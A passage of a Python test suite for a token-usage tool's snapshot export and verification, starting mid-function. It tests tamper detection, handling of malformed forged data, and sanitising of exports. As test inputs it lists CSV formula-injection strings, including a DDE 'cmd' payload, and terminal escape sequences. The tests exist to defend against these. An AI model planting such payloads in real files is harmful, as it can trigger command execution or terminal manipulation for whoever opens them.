              "csv": f'"total_tokens": {total}'}.get(fmt, f'"total_tokens":{total}')
    where = side if fmt == "csv" else padded
    at = where.rindex(needle) + len(needle) - 1
    bad = where[:at] + str((int(where[at]) + 1) % 10) + where[at + 1:]
    v = verify_text(padded, bad) if fmt == "csv" else verify_text(bad)
    assert not v.ok and v.message.startswith("ALTERED"), v.message


def test_trailing_spaces_on_the_marker_lines_only(snap):
    from tokentui.export.machine import render_csv_legacy
    from tokentui.export.model import make

    legacy = render_csv_legacy(make({**snap.data, "layout_version": 2}))  # a CSV written before item 14
    for fmt, marker in (("md", "```json tokentop-snapshot"), ("html", "<!-- tokentop-snapshot"),
                        ("csv-legacy", "# sha256:"), ("csv-legacy", "# data:"), ("csv", "date,")):
        text = legacy if fmt == "csv-legacy" else render(snap, fmt)
        lines = text.split("\n")
        assert any(ln.startswith(marker) for ln in lines), (fmt, marker)
        lines = [ln + " " if ln.startswith(marker) else ln for ln in lines]
        v = verify_text("\n".join(lines), render(snap, "json") if fmt == "csv" else None)
        assert v.ok, (fmt, marker, v.message)


#: data of the wrong shape under a matching digest (anyone can recompute one)
MISSHAPEN = {
    "daily-not-dates": lambda d: d.update(daily=[{"date": "nope"}]),
    "totals-empty": lambda d: d.update(totals={}),
    "window-zero": lambda d: d.update(window_days=0),
    "budget-without-fields": lambda d: d.update(budgets=[{"name": 1}]),
    "period-empty": lambda d: d.update(period={}),
    "sources-not-objects": lambda d: d["provenance"].update(sources=[1, "x"]),
    "model-rows-strings": lambda d: d.update(by_model=["a", "b"]),
}


@pytest.mark.parametrize("fmt", ["md", "html", "csv", "json", "toml"])
@pytest.mark.parametrize("name", sorted(MISSHAPEN))
def test_verify_never_crashes_on_data_of_the_wrong_shape(snap, tmp_path, capsys, name, fmt):
    import tomli_w

    from tokentui.export.model import Snapshot

    data = json.loads(json.dumps(snap.data))
    MISSHAPEN[name](data)
    forged = Snapshot(data, digest(data))
    if fmt == "json":
        text = json.dumps(forged.envelope())
    elif fmt == "toml":
        text = tomli_w.dumps(forged.envelope())
    elif fmt == "csv":  # the real rows beside forged data (the digest column left as written)
        text = render(snap, fmt)
        (tmp_path / "forged.csv.verify.json").write_text(json.dumps(forged.envelope()), encoding="utf-8")
    else:  # the real document with the forged data and digest swapped in
        real = render(snap, fmt)
        assert real.count(_embedded(fmt, snap.data)) == 1
        text = real.replace(_embedded(fmt, snap.data), _embedded(fmt, data)).replace(snap.digest, forged.digest)
    code, out = _verify_cli(tmp_path, f"forged.{fmt}", text, capsys)
    assert code in (0, 1) and "Traceback" not in out and "unexpected" not in out, out
    assert len(out.strip().splitlines()) == 1, out


# =============================================================================================
# CSV: a spreadsheet opening the file never sees a formula made from a name
# =============================================================================================

FORMULAS = ["x,=1+1,y", "a,=HYPERLINK(C3),b", "=cmd|' /C calc'!A0", "p,+1+1,q", "p,-1+1,q", "p,@SUM(A1),q",
            "t,\t=1+1,u", "r,\r=1+1,s"]


def _cells(line: str) -> list[str]:
    """The cells a spreadsheet may make of ``line``: split at every comma (quotes taken
    literally, as Excel does for a field that does not start with one) and as Python's
    csv module reads it (quoted fields)."""
    import csv
    import io

    cells = line.split(",")
    cells += next(csv.reader(io.StringIO(line)))
    return cells


@pytest.mark.parametrize("where", ["model", "project", "label"])
def test_csv_export_never_starts_a_cell_with_a_formula(tmp_path, capsys, where):
    models = [f"m{i}" for i in range(len(FORMULAS))]
    projects = [f"p{i}" for i in range(len(FORMULAS))]
    if where == "model":
        models = FORMULAS
    elif where == "project":
        projects = [f"/w/{f}" for f in FORMULAS]
    _config()
    _seed(models, projects)
    label = " ".join(FORMULAS) if where == "label" else None
    target = tmp_path / "snap.csv"
    argv = ["export", "--no-sync", "--include-projects", "-o", str(target)] + (["--name", label] if label else [])
    assert main(argv) == 0, capsys.readouterr().err
    text = target.read_text(encoding="utf-8")
    for n, line in enumerate(text.splitlines(), 1):
        for c in _cells(line):
            c = c.strip('"')
            assert c[:1] not in ("=", "+", "@", "\t", "\r"), (n, c)
            assert not c.startswith("-") or re.fullmatch(r"-[\d.]+[\]}]*", c), (n, c)  # only a negative number
    v = verify_file(target)
    assert v.ok, v.message
    data = v.data
    assert sorted(m["model"] for m in data["by_model"]) == sorted(models)
    if label:
        assert data["label"] == label.strip()


# =============================================================================================
# control characters: no export carries an escape sequence to whoever views it
# =============================================================================================

ESCAPES = ["\x1b]0;pwned\x07", "\x1b[2J\x1b[31mred", "\x9b2J", "nul\x00del\x7f", "bell\x07"]


@pytest.mark.parametrize("fmt", ["md", "html", "csv", "json", "toml"])
def test_no_export_carries_control_characters_and_piped_copies_verify(tmp_path, capsys, fmt):
    """A model, project or label with an escape sequence: the file holds none (so `cat` or a
    pager shows text), shows it escaped, and the file and a copy piped from `-o -` both verify."""
    models = [f"m{e}x" for e in ESCAPES]
    _config()
    _seed(models, [f"/home/u/p{e}" for e in ESCAPES])
    target = tmp_path / f"snap.{fmt}"
    label = "Alice" + ESCAPES[0]
    assert main(["export", "--no-sync", "--include-projects", "--name", label, "--format", fmt,
                 "-o", str(target)]) == 0, capsys.readouterr().err
    text = target.read_text(encoding="utf-8")
    bad = re.findall("[\x00-\x08\x0b-\x1f\x7f-\x9f]", text.replace("\r\n", "\n"))
    assert not bad, f"{fmt}: raw control characters {sorted(set(bad))!r}"
    assert verify_file(target).ok
    capsys.readouterr()
    assert main(["export", "--no-sync", "--include-projects", "--name", label, "--format", fmt, "-o", "-"]) == 0
    piped = tmp_path / f"piped.{fmt}"
    piped.write_text(capsys.readouterr().out, encoding="utf-8")
    if fmt == "csv":  # plain rows carry no data and stdout has no file beside it: the rows are
        # the file's rows (but for the digest column: generated_at may differ), and verify says
        # what it misses instead of calling them intact
        rows = lambda t: [line.rsplit(",", 1)[0] for line in t.splitlines()]  # noqa: E731
        assert rows(piped.read_text(encoding="utf-8")) == rows(text)
        v = verify_file(piped)
        assert not v.ok and "piped.csv.verify.json" in v.message, v.message
        return
    assert verify_file(piped).ok, f"{fmt}: a copy piped from `-o -` no longer verifies"
